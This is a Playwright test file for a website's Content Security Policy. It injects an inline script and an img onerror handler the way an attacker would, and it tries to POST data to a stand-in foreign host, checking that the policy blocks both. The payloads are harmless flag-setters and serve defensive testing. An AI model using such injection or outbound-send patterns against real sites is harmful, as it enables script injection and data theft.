import type { Page } from 'playwright/test';
import { contactPage, formOn } from '../support/forms';
import { expect, open, test } from '../support/visit';

// Every visit of the suite fails on a violation of the policy: see support/visit.ts.
const VIOLATIONS = [/^console error: .*Content Security Policy/s, /^console error: policy violation: /];

/** Adds a script to the page as an attacker who found a hole would, and tells whether it ran. */
async function inject(page: Page): Promise<boolean> {
  return page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.__injected = true');
    image.src = '/icons/rien.png';
    document.body.append(image);
    await new Promise((done) => image.addEventListener('error', done));
    return '__injected' in window;
  });
}

test('a script that was not exported with the page does not run', async ({ page, bareHost, tolerate }) => {
  tolerate(...VIOLATIONS, /404/);
  for (const origin of ['', bareHost.origin]) {
    await open(page, `${origin}${contactPage.path}`);
    expect(await inject(page)).toBe(false);
  }
});

test('nothing can be sent to another site, nor the page be framed', async ({ page, tolerate }) => {
  tolerate(...VIOLATIONS, /^console error: /, /^other origin/, /^failed request/);
  const response = await page.goto(contactPage.path);
  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  const sent = await page.evaluate(() =>
    fetch('https://ailleurs.example/', { method: 'POST', body: 'x' }).then(
      () => true,
      () => false,
    ),
  );
  expect(sent).toBe(false);
  await expect(formOn(page, contactPage).form).toBeVisible();
});
